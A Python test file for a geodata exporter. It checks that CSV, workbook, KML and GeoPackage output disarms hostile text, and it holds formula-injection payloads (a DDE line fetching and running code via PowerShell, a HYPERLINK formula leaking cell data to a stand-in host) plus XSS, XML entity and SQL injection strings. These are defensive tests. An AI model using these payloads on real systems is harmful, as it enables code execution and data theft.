"""Text from outside stays text: no spreadsheet runs it, no viewer shows it as its own markup."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import openpyxl
import pyarrow as pa
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st

from geodata.exports.plain_files import disarmed
from geodata.exports.sheet import Sheet, Sidecar
from geodata.exports.write import write
from layers.schema import Column

Sheets = Callable[..., Sheet]
Entry = Callable[..., bytes]
SIGNS = "=+-@|%\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @A1", "\x0b=1",
    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 127.0.0.1/x)'!'A1'", "|calc", "%0A=1",
    '=HYPERLINK("http://127.0.0.1/?"&A1,"see")', "=IMPORTXML(CONCAT(\"http://127.0.0.1\"))",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff20SUM(1)", "'=1+1", "''=1+1", "\x00=1+1", '"=1+1', "'-", " =", "+39 06 1234", "-12.5",
]  # fmt: skip
# In a spreadsheet that divides lines at semicolons or tabs these begin a cell of their own.
BEHIND = [
    "harmless;=1+1", "harmless\t=1+1", "harmless\n=1+1", 'harmless;"=1+1', 'x;""=1+1', "x; =1+1",
    "x;;@SUM(1);-1", "a\r\n+1", "x;\uff1d1", "x;'=1",
]  # fmt: skip
HARMLESS = [
    *SIGNS,
    "",
    "a",
    "2018-05-01",
    "Lampedusa - Porto",
    "a=b",
    "1;2;3",
    "a, b",
    'say "so"',
    "50 %",
]
MARKUP = [
    "<script>alert(1)</script>", "</pre><img src=x onerror=alert(1)>", "]]></description><Placemark/>",
    '"><svg onload=alert(1)>', "<![CDATA[<b>x</b>]]>", "&lt;b&gt;", "&#60;b&#62;", "<!ENTITY x SYSTEM 'f'>",
    "<!--", "$[name]", "javascript:alert(1)", "</SimpleData></SchemaData><Point/>", "' onload='x",
]  # fmt: skip


def begins_a_formula(cell: str) -> bool:
    """Whether a spreadsheet could run a cell, read as broadly as any does; one sign it cannot."""
    if len(cell) == 1 and cell in SIGNS:
        return False
    seen = cell.lstrip(' \t\r\n\x0b\x0c\x00"')
    return bool(seen) and (seen[0] in SIGNS or cell[:1] in "\t\r\n")


def cells_at(text: str, delimiter: str) -> list[str]:
    """The cells of a file for a program that divides lines so and knows quotes only at a begin."""
    return [cell for line in re.split("[\r\n]", text) for cell in line.split(delimiter)]


@pytest.mark.parametrize("text", [*FORMULAS, *BEHIND])
def test_no_cell_of_a_csv_is_run_wherever_its_lines_are_divided(
    sheet: Sheets, entry: Entry, text: str
) -> None:
    raw = entry("csv", "things.csv", sheet({"note": text, "place_code": text})).decode()
    (_, row) = csv.reader(io.StringIO(raw, newline=""))
    assert not begins_a_formula(row[1])
    for delimiter in ";\t":
        assert not [c for c in cells_at(raw.partition("\n")[2], delimiter) if begins_a_formula(c)]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_as_it_was(sheet: Sheets, entry: Entry, text: str) -> None:
    raw = entry("csv", "things.csv", sheet({"note": text})).decode()
    (_, row) = csv.reader(io.StringIO(raw, newline=""))
    assert row[1] == text


@given(st.lists(st.text(SIGNS + "';\"\t\r\n \x0b\x0cab", max_size=10), min_size=1, max_size=20))
def test_what_keeps_a_text_from_being_run_can_be_taken_away_again(
    as_it_was: Callable[[str], str], texts: list[str]
) -> None:
    safe = disarmed(pa.chunked_array([pa.array(texts)])).to_pylist()
    assert not any(begins_a_formula(text) for text in safe)
    assert [as_it_was(text) for text in safe] == texts


def test_negative_numbers_are_numbers(sheet: Sheets, entry: Entry) -> None:
    one = sheet({"dead_count": -3, "distance_from_the_coast_nm": -0.25})
    row = entry("csv", "things.csv", one).decode().splitlines()[1]
    assert row.split(",")[3:5] == ["-3", "-0.25"]
    page = openpyxl.load_workbook(io.BytesIO(entry("xlsx", "things.xlsx", one)))["things"]
    assert [c.value for c in page[2]][3:5] == [-3, -0.25]
    assert {c.data_type for c in page[2][3:5]} == {"n"}


def test_a_position_in_the_south_and_west_is_a_number(sheet: Sheets, entry: Entry) -> None:
    one = sheet({"geometry": shapely.Point(-5.25, -1.5)}, geometry="point")
    assert entry("csv", "things.csv", one).decode().splitlines()[1].endswith(",-5.25,-1.5")


@pytest.mark.parametrize("text", [*FORMULAS, *BEHIND, "http://127.0.0.1/a", "mailto:a@b.c"])
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(
    sheet: Sheets, entry: Entry, text: str
) -> None:
    raw = entry("xlsx", "things.xlsx", sheet({"note": text, "place_code": text}, name="things"))
    page = openpyxl.load_workbook(io.BytesIO(raw))["things"]
    assert page["B2"].data_type == "s"
    assert page["B2"].hyperlink is None
    with zipfile.ZipFile(io.BytesIO(raw)) as parts:
        for name in parts.namelist():
            assert b"<f>" not in parts.read(name)
            assert b"<hyperlink" not in parts.read(name)
        assert not [n for n in parts.namelist() if "externalLink" in n or "vba" in n.lower()]


def test_no_line_of_the_read_me_of_a_workbook_is_a_formula(
    sheet: Sheets, tmp_path: Path, sidecar: Sidecar
) -> None:
    hostile = Sidecar(sidecar.document, "\n".join(FORMULAS), sidecar.known_at)
    meaning = (*sheet().columns[:-1], Column("reported_in", "month", "=1+1", unit="@x"))
    one = Sheet("things", "=1+1", sheet({}).frame, meaning)
    book = openpyxl.load_workbook(write([one], hostile, "xlsx", tmp_path / "a.xlsx", bare=True))
    for page in book.worksheets:
        kinds = {c.data_type for row in page.iter_rows() for c in row if c.value is not None}
        assert "f" not in kinds


@pytest.mark.parametrize("text", MARKUP)
def test_markup_in_a_kml_is_text_and_in_its_description_text_of_html(
    sheet: Sheets, tmp_path: Path, sidecar: Sidecar, text: str
) -> None:
    one = sheet({"note": text, "geometry": shapely.Point(1, 2)}, geometry="point")
    one = Sheet(one.name, text, one.frame, one.columns, "point", colours={text: "#112233"},
                colour_column="note")  # fmt: skip
    hostile = Sidecar({"words": text}, text, sidecar.known_at)
    plain = ET.parse(
        write([sheet({"note": "a", "geometry": shapely.Point(1, 2)}, geometry="point",
                     colours={"a": "#112233"}, colour_column="note")],
              sidecar, "kml", tmp_path / "plain.kml", bare=True)
    ).getroot()  # fmt: skip
    root = ET.parse(write([one], hostile, "kml", tmp_path / "a.kml", bare=True)).getroot()
    # Not one element more than with harmless text.
    assert [e.tag for e in root.iter()] == [e.tag for e in plain.iter()]
    space = "{http://www.opengis.net/kml/2.2}"
    description = root.findtext(f"{space}Document/{space}description") or ""
    inner = description.removeprefix("<pre>").removesuffix("</pre>")
    assert "<" not in inner
    assert re.sub("&lt;", "<", inner.replace("&gt;", ">")).replace("&amp;", "&") == text
    value = root.findtext(f"{space}Document/{space}ExtendedData/{space}Data/{space}value")
    assert json.loads(value or "") == {"words": text}
    assert [e.text for e in root.iter(f"{space}SimpleData") if e.get("name") == "note"] == [text]


@pytest.mark.parametrize("text", [*MARKUP, "a\x00b", "a\x1bb", "a\ufffe", "line\nof two\ttabs"])
def test_markup_in_a_style_is_a_value(
    sheet: Sheets, tmp_path: Path, sidecar: Sidecar, text: str
) -> None:
    one = sheet({"geometry": shapely.Point(1, 2)}, geometry="point",
                colours={text: "#112233"}, colour_column="note")  # fmt: skip
    path = write([one], sidecar, "gpkg", tmp_path / "a.gpkg", bare=True)
    with closing(sqlite3.connect(path)) as file:
        ((qml, sld),) = file.execute("SELECT styleQML, styleSLD FROM layer_styles").fetchall()
    shown = re.sub("[\x00\x1b\ufffe]", "\ufffd", text)
    categories = list(ET.fromstring(qml).iter("category"))
    assert [c.get("value") for c in categories] == [shown, ""]
    ogc = "{http://www.opengis.net/ogc}Literal"
    assert [e.text for e in ET.fromstring(sld).iter(ogc)] == [shown]


@pytest.mark.parametrize("text", ["'; DROP TABLE things; --", '"; DROP TABLE things; --', "a'b\"c"])
def test_a_geopackage_takes_text_as_a_value(
    sheet: Sheets, there_and_back: Callable[..., Any], text: str
) -> None:
    back = there_and_back(sheet({"note": text}), "gpkg")
    assert back.cells["note"] == [text]
